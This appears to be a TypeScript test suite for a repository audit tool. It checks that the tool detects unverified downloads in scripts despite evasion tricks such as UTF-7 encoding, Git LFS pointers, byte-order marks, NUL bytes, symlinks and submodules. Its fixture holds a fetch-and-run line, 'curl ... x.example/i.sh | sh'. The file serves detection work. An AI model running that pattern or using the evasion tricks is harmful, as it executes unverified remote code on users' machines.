import { symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { TestRepository } from '../repository.ts';
import { command, found } from './command.ts';

const bad = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n';
const download = 'unverified-download';
const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 99\n`;

function linked(
  links: Readonly<Record<string, string>>,
  files: Readonly<Record<string, string>>,
): TestRepository {
  const repository = new TestRepository().write(files);
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(repository.folder, path));
  repository.commit({});
  return repository;
}

describe('what git renders otherwise than it is committed', () => {
  it('is judged as it is committed', async () => {
    const repository = new TestRepository();
    repository.commit({ '.gitattributes': '*.sh working-tree-encoding=UTF-7\n' });
    repository.write({ 'a.sh': bad.replace('|', '+AHw-') });
    repository.commit({});
    repository.git('checkout', '-q', '-f', 'HEAD');
    expect(repository.git('show', 'HEAD:a.sh')).toContain('|');
    expect(found(await command('audit', repository.folder))).toEqual([`a.sh ${download}`]);
  });

  it.each([
    'deploy.sh',
    'requirements.txt',
    'Dockerfile',
  ])('is told where Git LFS keeps it: %s', async (path) => {
    const repository = new TestRepository();
    repository.commit({ [path]: pointer, '.gitattributes': `${path} filter=lfs\n` });
    const { report } = await command('audit', repository.folder);
    expect(report.diagnostics.map((one) => `${one.path} ${one.message}`)).toContain(
      `${path} This file was not checked: it is a pointer of Git LFS, and what it points to is not here.`,
    );
  });

  it('is read where Git LFS has put it', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': pointer, '.gitattributes': '*.sh filter=lfs\n' });
    repository.git('update-index', '--assume-unchanged', 'a.sh');
    writeFileSync(join(repository.folder, 'a.sh'), bad);
    expect(found(await command('audit', repository.folder))).toEqual([`a.sh ${download}`]);
  });

  it.each([
    ['two bytes in front', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(bad)])],
    ['a NUL after the first line', Buffer.from(`${bad}true \0\n`)],
  ])('is not hidden from a shell by %s', async (_, bytes) => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh*': bytes });
    expect(found(await command('audit', repository.folder))).toEqual([`a.sh ${download}`]);
  });
});

describe('a link inside the tree', () => {
  const files = { 'docker/prod.txt': 'FROM python:3.7-buster\n', 'build/x.dat': bad, 'x/n': '14\n' };

  it('is read as what its name says, and reported where it leads to', async () => {
    const repository = linked(
      { Dockerfile: 'docker/prod.txt', 'deploy.sh': 'build/x.dat', '.nvmrc': 'x/n' },
      files,
    );
    const ended = await command('audit', repository.folder);
    expect(found(ended)).toEqual(
      expect.arrayContaining([
        `build/x.dat ${download}`,
        'docker/prod.txt end-of-life-os',
        'docker/prod.txt end-of-life-runtime',
        'x/n end-of-life-runtime',
      ]),
    );
    const script = ended.report.findings.find(({ rule }) => rule === download)!;
    expect([script.location.startLine, script.related.map(({ path }) => path)]).toEqual([2, ['deploy.sh']]);
  });

  it('is seen where only what it leads to changes', async () => {
    const repository = linked(
      { Dockerfile: 'docker/prod.txt' },
      { 'docker/prod.txt': 'FROM python:3.13-slim\n' },
    );
    repository.commit({ 'docker/prod.txt': 'FROM python:3.7-buster\n' });
    for (const words of [
      ['--base', 'HEAD^'],
      ['--base', 'HEAD^', '--head', 'HEAD'],
    ])
      expect(found(await command('diff', repository.folder, ...words))).toContain(
        'docker/prod.txt end-of-life-runtime',
      );
  });

  it('says nothing twice', async () => {
    const repository = linked({ Dockerfile: 'docker/Dockerfile' }, { 'docker/Dockerfile': 'FROM node:14\n' });
    const rules = found(await command('audit', repository.folder)).filter((one) =>
      one.includes('end-of-life-runtime'),
    );
    expect(rules).toEqual(['docker/Dockerfile end-of-life-runtime']);
  });

  it('may be a folder, and may lead through another link', async () => {
    const repository = linked(
      { deploy: 'data', data: 'store' },
      {
        'store/run.txt': bad,
        Makefile: 'all:\n\tbash deploy/run.txt\n',
      },
    );
    expect(found(await command('audit', repository.folder))).toContain(`store/run.txt ${download}`);
  });

  it('that leads out of it, or to itself, is told and not followed', async () => {
    const repository = linked(
      { Dockerfile: '/etc/passwd', 'a.sh': '../../x.sh', 'b.sh': 'c.sh', 'c.sh': 'b.sh' },
      {
        'z.sh': '#!/bin/sh\n',
      },
    );
    const { report } = await command('audit', repository.folder);
    expect(report.findings).toEqual([]);
    expect(report.diagnostics.flatMap(({ path }) => path ?? [])).toEqual([
      'Dockerfile',
      'a.sh',
      'b.sh',
      'c.sh',
    ]);
  });
});

describe('a submodule', () => {
  it('is told where a change brings it, and not when it only moves to another commit', async () => {
    const repository = new TestRepository();
    const base = repository.commit({ 'a.sh': '#!/bin/sh\n' });
    const point = (commit: string) => {
      repository.git('update-index', '--add', '--cacheinfo', `160000,${commit},lib`);
      repository.git('commit', '-q', '-m', 'submodule');
      return repository.git('rev-parse', 'HEAD');
    };
    const added = point('1'.repeat(40));
    const moved = point('2'.repeat(40));
    const notes = async (from: string, to: string) =>
      (await command('diff', repository.folder, '--base', from, '--head', to)).report.diagnostics.map(
        ({ path }) => path,
      );
    expect(await notes(base, added)).toEqual(['lib']);
    expect(await notes(added, moved)).toEqual([]);
  });
});
